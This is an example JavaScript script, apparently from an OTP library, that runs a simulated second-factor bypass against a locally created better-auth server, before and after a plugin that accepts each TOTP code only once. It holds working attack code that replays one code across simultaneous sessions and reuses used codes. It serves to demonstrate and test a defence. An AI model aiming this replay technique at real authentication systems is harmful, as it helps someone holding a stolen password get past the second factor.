// An attacker has the password of a user of better-auth and sees one code. Before and after the plugin of examples/better-auth.
// npm ci --prefix examples/better-auth && node examples/better-auth-attack.js
import { decodeBase32, parseUri, timeStep, totp } from "otp-core";
import { createGuard } from "otp-core/guard";
import { memoryStore } from "otp-core/store";
import { acceptCodesOnce } from "./better-auth/plugin.js";
import { createServer } from "./better-auth/server.js";

const CREDENTIALS = { email: "alice@example.com", password: "correct horse battery", name: "alice" };
const SESSIONS = 5;

const guard = createGuard({ store: memoryStore(), attempts: "host" }); // on several servers: Redis or SQL
await attack("better-auth alone", createServer([]));
await attack("with the plugin", createServer([acceptCodesOnce(guard, { decodeBase32 })]));

async function attack(name, auth) {
  const owner = createBrowser(auth);
  await owner.post("/sign-up/email", CREDENTIALS);
  const { totpURI } = await owner.post("/two-factor/enable", { password: CREDENTIALS.password });
  const key = parseUri(totpURI);
  let step = timeStep(key);
  const freshCode = () => totp(key, { now: step++ * 30_000 });
  const enrolment = freshCode();
  const { user } = await owner.post("/two-factor/verify-totp", { code: enrolment });
  if (user === undefined) throw new Error("The app was not confirmed.");

  const report = async (what, codes) =>
    console.log(`${name}, ${what}: ${await logIns(auth, codes)} of ${codes.length}`);
  await report("log-ins with the code that confirmed the app", [enrolment]);
  // The code of the next step is within the window.
  const code = freshCode();
  await report("simultaneous log-ins with one code", Array(SESSIONS).fill(code));
  await report("log-ins with a used code", [code]);
  await report("log-ins with malformed codes", ["12345x", "", "0".repeat(300)]);
}

/** How many sessions get in, each with the password and its code, all at the same time. */
async function logIns(auth, codes) {
  const browsers = [];
  for (const code of codes) {
    const browser = createBrowser(auth);
    const { twoFactorRedirect } = await browser.post("/sign-in/email", CREDENTIALS);
    if (!twoFactorRedirect) throw new Error("The second factor is not asked for.");
    browsers.push({ browser, code });
  }
  const answers = await Promise.all(
    browsers.map(({ browser, code }) => browser.post("/two-factor/verify-totp", { code })),
  );
  return answers.filter(({ token }) => token !== undefined).length;
}

function createBrowser(auth) {
  const cookies = new Map();
  return {
    async post(path, body) {
      const cookie = [...cookies].map(([name, value]) => `${name}=${value}`).join("; ");
      const request = new Request(`http://127.0.0.1:3000/api/auth${path}`, {
        method: "POST",
        headers: { "content-type": "application/json", origin: "http://127.0.0.1:3000", cookie },
        body: JSON.stringify(body),
      });
      const response = await auth.handler(request);
      for (const line of response.headers.getSetCookie()) {
        const [, name, value] = /^([^=]+)=([^;]*)/.exec(line) ?? [];
        cookies.set(name, value);
      }
      return response.json();
    },
  };
}
